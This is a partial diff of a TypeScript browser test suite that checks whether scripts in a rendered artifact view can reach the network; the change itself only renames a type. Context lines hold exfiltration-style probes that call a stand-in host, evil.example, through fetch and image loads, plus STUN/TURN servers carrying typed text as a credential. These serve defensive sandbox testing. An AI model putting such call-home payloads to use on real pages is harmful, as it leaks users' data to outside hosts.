@@ -5,7 +5,7 @@ import { setTimeout as delay } from "node:timers/promises";
 import type { Kind } from "../../../supabase/functions/mcp/artifacts/artifact.ts";
 import { displayTitle } from "../../../supabase/functions/mcp/views/shared/plain_text.ts";
 import { CORPUS, TITLES } from "./corpus.ts";
-import { openHost, pageRead, show, type Shown } from "./shown.ts";
+import { openHost, pageRead, show, type TestView } from "./test_view.ts";
 import { clear, DOMAIN, type Home } from "./listener.ts";
 import type { Stage } from "./stage.ts";
 
@@ -52,7 +52,7 @@ export async function attack({ browser, origin, home }: Stage): Promise<string> 
 }
 
 /** Control: an executed script and a sent request are detected. */
-async function expectToBeSeen(shown: Shown, home: Home): Promise<void> {
+async function expectToBeSeen(shown: TestView, home: Home): Promise<void> {
   // deno-lint-ignore no-console -- the attacks are detected by this output
   await shown.page.evaluate(() => console.log("EXECUTED by the host"));
   await shown.page.evaluate(() => fetch("http://evil.example/").catch(() => {}));
@@ -62,7 +62,7 @@ async function expectToBeSeen(shown: Shown, home: Home): Promise<void> {
   shown.errors.length = 0;
 }
 
-async function attempt(shown: Shown, kind: Kind, content: string, title: string): Promise<void> {
+async function attempt(shown: TestView, kind: Kind, content: string, title: string): Promise<void> {
   const call = { name: "artifact.view", arguments: {} };
   await show(shown, call, resultOf(kind, content, title));
   assert.equal(await shown.view.locator("header h1").textContent(), displayTitle(title));
@@ -82,7 +82,7 @@ async function attempt(shown: Shown, kind: Kind, content: string, title: string)
 }
 
 /** Requests that no policy blocks once a script runs; the dialog warns about them. */
-async function scriptsThatWait(shown: Shown, home: Home): Promise<string> {
+async function scriptsThatWait(shown: TestView, home: Home): Promise<string> {
   const servers = `{ urls: "stun:127.0.0.1:${home.port}" }, { urls: "turn:127.0.0.1:${home.port}",
     username: "what was typed", credential: "x" }`;
   const call = (servers: string) =>
@@ -124,7 +124,7 @@ async function scriptsThatWait(shown: Shown, home: Home): Promise<string> {
  * Scripts that the user allowed run, but reach neither the view nor the network. A navigation of the frame is
  * refused only after the browser has connected; no request is sent.
  */
-async function scriptsThatCallHome(shown: Shown, home: Home): Promise<string> {
+async function scriptsThatCallHome(shown: TestView, home: Home): Promise<string> {
   const tries = [
     `fetch("http://evil.example/fetch")`,
     `new Image().src = "http://evil.example/image"`,
